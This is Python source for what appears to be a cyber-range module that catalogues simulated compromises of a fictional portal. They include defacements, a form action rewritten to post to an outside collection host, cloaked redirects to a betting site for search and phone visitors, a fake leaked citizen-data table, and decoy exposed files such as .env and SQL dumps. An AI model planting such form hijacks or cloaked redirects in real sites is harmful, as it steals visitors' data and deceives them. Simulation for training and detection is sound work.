"""Which attacks can be played on a portal of the range, and what do they serve to whom?

An attack changes an honest page, or answers a path that had none. All texts and names are made up here.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True, slots=True, kw_only=True)
class Asked:
    """Who asks for what."""

    path: str
    agent: str = ""
    referrer: str = ""

    @property
    def phone(self) -> bool:
        return "Mobile" in self.agent

    @property
    def crawler(self) -> bool:
        return "bot" in self.agent.lower()

    @property
    def from_search(self) -> bool:
        return "google." in self.referrer


@dataclass(frozen=True, slots=True, kw_only=True)
class Answer:
    """What the portal sends instead."""

    body: bytes
    media_type: str = "text/html; charset=utf-8"
    status: int = 200
    location: str = ""


Change = Callable[[str, Asked], str]


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One kind of attack: it changes pages, or adds answers at paths."""

    kind: str
    category: str
    change: Change | None = None
    files: tuple[tuple[str, Answer], ...] = ()
    lead: str = ""
    """Where visitors are led by HTTP, for whom `for_whom` says yes."""
    for_whom: str = "all"
    """all, search, crawler, phone."""


def meant(attack: Attack, asked: Asked) -> bool:
    """Whether this visitor gets to see the attack."""
    return {
        "all": True,
        "search": asked.from_search,
        "crawler": asked.crawler,
        "phone": asked.phone,
    }[attack.for_whom]


_HERE = Path(__file__).parent
_WHOLE = ("defacement", "defacement_polite", "defacement_picture")
_BETTING = "https://kubong88.vip/"
_CITIZENS = "".join(
    f"<tr><td>Nguyễn Văn {chr(65 + n)}</td><td>{1 + n:02d}/0{1 + n % 9}/19{70 + n}</td>"
    f"<td>0010{70 + n}0{12345 + n * 37}</td><td>09{12345678 + n * 7919}</td></tr>"
    for n in range(20)
)
_LEAK = (
    "<table class='ds'><tr><th>Họ và tên</th><th>Ngày sinh</th><th>Số CCCD</th><th>Điện thoại</th></tr>"
    f"{_CITIZENS}</table>"
)
_DUMP = (
    b"-- MySQL dump 10.13  Distrib 8.0.36\n--\n-- Host: localhost    Database: congdan\n"
    b"DROP TABLE IF EXISTS `users`;\nCREATE TABLE `users` (`id` int, `name` varchar(80));\n"
    b"INSERT INTO `users` VALUES (1,'admin');\n"
)
_GIT = b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
_LISTING = (
    b"<html><head><title>Index of /uploads</title></head><body><h1>Index of /uploads</h1>"
    b'<pre><a href="../">Parent Directory</a>\n<a href="ds.xlsx">ds.xlsx</a></pre></body></html>'
)
_PHPINFO = (
    b"<html><head><title>PHP 7.4.3 - phpinfo()</title></head><body><h1>PHP Version 7.4.3</h1></body></html>"
)
_TEXT = "text/plain"
_HTML = "text/html; charset=utf-8"


def _placed(where: str, html: str) -> Change:
    end = "</head>" if where == "head" else "</body>"
    return lambda page, _: page.replace(end, html + end, 1)


def _instead(name: str) -> Change:
    whole = (_HERE / "skins" / f"{name}.html").read_text(encoding="utf-8")
    return lambda page, asked: whole if asked.path in {"/", "/index.html"} else page


def _retitled(page: str, _asked: Asked) -> str:
    start, end = page.find("<title>"), page.find("</title>")
    return page[: start + 7] + "Hacked by Bóng Đêm Crew" + page[end:]


def _one_line(page: str, _asked: Asked) -> str:
    return page.replace("<h2>", "<p>Đã bị hack bởi Bóng Đêm Crew</p><h2>", 1)


def _taunt_line(page: str, _asked: Asked) -> str:
    return page.replace("</h1>", "</h1><p>B0ng D3m was here - your security is low, admin</p>", 1)


def _form_away(page: str, _asked: Asked) -> str:
    return page.replace('action="/', 'action="https://thu-thap.top/', 1)


def _pictures_away(page: str, _asked: Asked) -> str:
    for folder in ("/images/", "/uploads/"):
        page = page.replace(f'src="{folder}', 'src="https://anh-la.xyz/', 1)
    return page


def _file(kind: str, *files: tuple[str, str, bytes]) -> Attack:
    answers = tuple((path, Answer(body=body, media_type=media)) for path, media, body in files)
    return Attack(kind=kind, category="exposure", files=answers)


def _injections() -> list[Attack]:
    lines = (_HERE / "injections.tsv").read_text(encoding="utf-8").splitlines()[1:]
    rows = [line.split("\t") for line in lines if line]
    return [
        Attack(kind=kind, category=category, for_whom=for_whom, change=_placed(where, html))
        for kind, category, for_whom, where, html in rows
    ]


_ATTACKS = (
    *(Attack(kind=name, category="defacement", change=_instead(name)) for name in _WHOLE),
    Attack(kind="title", category="defacement", change=_retitled),
    Attack(kind="one_line", category="defacement", change=_one_line),
    Attack(kind="taunt_line", category="defacement", change=_taunt_line),
    Attack(kind="image_swap", category="defacement", change=_pictures_away),
    *_injections(),
    Attack(kind="form_target", category="injection", change=_form_away),
    Attack(kind="redirect", category="injection", lead=_BETTING),
    Attack(kind="redirect_search", category="injection", lead=_BETTING, for_whom="search"),
    Attack(kind="redirect_phone", category="injection", lead=_BETTING, for_whom="phone"),
    Attack(kind="leak", category="leak", change=_placed("body", _LEAK)),
    _file("git", ("/.git/HEAD", _TEXT, b"ref: refs/heads/main\n"), ("/.git/config", _TEXT, _GIT)),
    _file("env", ("/.env", _TEXT, b"APP_ENV=production\nDB_HOST=10.0.0.5\nDB_PASSWORD=hoasen2026\n")),
    _file("dump", ("/backup.sql", "application/sql", _DUMP)),
    _file("backup", ("/backup.zip", "application/zip", b"PK\x03\x04" + bytes(200))),
    _file("listing", ("/uploads/", _HTML, _LISTING)),
    _file("phpinfo", ("/phpinfo.php", _HTML, _PHPINFO)),
    _file("config", ("/wp-config.php.bak", _TEXT, b"<?php\ndefine('DB_PASSWORD', 'y');\n")),
    Attack(kind="down", category="availability"),
)

KINDS: dict[str, Attack] = {attack.kind: attack for attack in _ATTACKS}
"""All kinds of attack by name."""
